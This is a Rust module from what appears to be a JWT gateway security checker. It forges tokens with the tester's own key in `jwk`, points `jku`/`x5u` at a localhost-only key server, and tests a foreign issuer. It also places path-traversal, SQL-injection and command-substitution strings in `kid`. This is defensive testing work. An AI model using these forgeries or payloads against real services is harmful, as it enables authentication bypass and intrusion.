//! Headers that bring their own key along, or say where to find one (RFC 7515 §4.1, RFC 8725 §3.10).

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use anyhow::Result;
use aws_lc_rs::hmac;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpListener;
use tokio_util::sync::{CancellationToken, DropGuard};

use super::forger::{Forger, Forgery, show, show_forged};
use super::target::Target;
use super::{Attack, NotTried, Outcome};
use crate::commands::check::Severity;

pub(super) static ATTACKS: [Attack; 4] = [
    Attack {
        id: "header-jwk",
        severity: Severity::High,
        what: "a token by the attacker's own key, which stands in its header as `jwk`",
        expected: "401",
        play: |target| Box::pin(show_forged(target, own_key_in_header)),
    },
    Attack {
        id: "header-jku-x5u",
        severity: Severity::High,
        what: "the same, where `jku` or `x5u` of the header says on whose server the key is",
        expected: "401, and nobody asks that server",
        play: |target| Box::pin(own_key_by_url(target)),
    },
    Attack {
        id: "header-kid",
        severity: Severity::High,
        what: "a `kid` that is a path, a statement or a command, so that a known text becomes the key",
        expected: "401",
        play: |target| {
            Box::pin(async move { show(target, key_id_as_a_path(target.forger().await?)).await })
        },
    },
    Attack {
        id: "other-issuer",
        severity: Severity::High,
        what: "a token of an issuer of the attacker's own, whose discovery document and keys are there to be fetched",
        expected: "401, and nobody asks that server",
        play: |target| Box::pin(another_issuer(target)),
    },
];

fn own_key_in_header(forger: &Forger, _: &Target) -> Result<Vec<Forgery>> {
    let good = forger.good_header.get("kid").and_then(Value::as_str);
    let mut tokens = Vec::new();
    for key_id in [good.unwrap_or("own"), "own"] {
        let header = json!({ "alg": "RS256", "kid": key_id, "jwk": forger.own_public_key(key_id) });
        tokens.push(Forgery {
            what: "with `jwk`".to_owned(),
            token: forger.by_own_key(&header, &json!({}))?,
        });
    }
    let header = json!({ "alg": "RS256", "kid": null, "jwk": forger.own_public_key("own") });
    tokens.push(Forgery {
        what: "with `jwk` and without `kid`".to_owned(),
        token: forger.by_own_key(&header, &json!({}))?,
    });
    Ok(tokens)
}

async fn own_key_by_url(target: &Target) -> Result<Outcome> {
    let forger = target.forger().await?;
    let server = KeyServer::start(target, forger).await?;
    let mut tokens = Vec::new();
    for (name, path) in [("jku", "jwks.json"), ("x5u", "chain.pem")] {
        let header =
            json!({ "alg": "RS256", "kid": "own", name: format!("{}{path}", server.url()) });
        tokens.push(Forgery {
            what: format!("with `{name}`"),
            token: forger.by_own_key(&header, &json!({}))?,
        });
    }
    Ok(server.unless_asked(show(target, tokens).await?))
}

async fn another_issuer(target: &Target) -> Result<Outcome> {
    let forger = target.forger().await?;
    let server = KeyServer::start(target, forger).await?;
    let header = json!({ "alg": "RS256", "kid": "own" });
    let mut tokens = Vec::new();
    for issuer in [server.url(), server.url().trim_end_matches('/').to_owned()] {
        tokens.push(Forgery {
            what: "of another issuer".to_owned(),
            token: forger.by_own_key(&header, &json!({ "iss": issuer }))?,
        });
    }
    Ok(server.unless_asked(show(target, tokens).await?))
}

fn key_id_as_a_path(forger: &Forger) -> Vec<Forgery> {
    let known: [(&str, &[u8]); 8] = [
        ("/dev/null", b""),
        ("../../../../../../../../dev/null", b""),
        ("file:///dev/null", b""),
        ("/proc/sys/kernel/randomize_va_space", b"2\n"),
        (
            "../../../../../../../../proc/sys/kernel/randomize_va_space",
            b"2\n",
        ),
        ("' UNION SELECT 'lychgate' -- ", b"lychgate"),
        ("x' OR '1'='1", b""),
        ("$(printf lychgate)", b"lychgate"),
    ];
    let tokens = known.into_iter().map(|(key_id, key)| Forgery {
        what: format!("`kid` {key_id:?}"),
        token: forger.by_hmac(
            &json!({ "alg": "HS256", "kid": key_id }),
            hmac::HMAC_SHA256,
            key,
        ),
    });
    tokens.collect()
}

/// A server of the attacker's own, with a key set that fits whatever is asked. It listens until it is dropped.
struct KeyServer {
    address: SocketAddr,
    asked: Arc<AtomicUsize>,
    _until_dropped: DropGuard,
}

impl KeyServer {
    async fn start(target: &Target, forger: &Forger) -> Result<Self> {
        if !target.gateway()?.is_on_loopback() {
            return Err(NotTried::because(
                "the gateway is on another machine, which could not ask a server on this one",
            ));
        }
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await?;
        let address = listener.local_addr()?;
        let url = format!("http://{address}/");
        let document = json!({
            "issuer": url, "jwks_uri": format!("{url}jwks.json"), "keys": [forger.own_public_key("own")],
        });
        let document = document.to_string();
        let answer = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{document}",
            document.len()
        );
        let asked = Arc::new(AtomicUsize::new(0));
        let stop = CancellationToken::new();
        let (counted, stopped) = (Arc::clone(&asked), stop.clone());
        tokio::spawn(stopped.run_until_cancelled_owned(async move {
            while let Ok((mut socket, _)) = listener.accept().await {
                counted.fetch_add(1, Ordering::Relaxed);
                let mut head = [0; 4096];
                // Whoever hangs up has asked all the same.
                if socket.read(&mut head).await.is_ok() {
                    let _sent = socket.write_all(answer.as_bytes()).await;
                }
            }
        }));
        Ok(Self {
            address,
            asked,
            _until_dropped: stop.drop_guard(),
        })
    }

    fn url(&self) -> String {
        format!("http://{}/", self.address)
    }

    /// To be asked is to have got through: the gateway calls whom an attacker names.
    fn unless_asked(&self, outcome: Outcome) -> Outcome {
        match self.asked.load(Ordering::Relaxed) {
            0 => outcome,
            times => Outcome::GotThrough(format!(
                "the attacker's server was asked ({times}×); {}",
                outcome.seen()
            )),
        }
    }
}
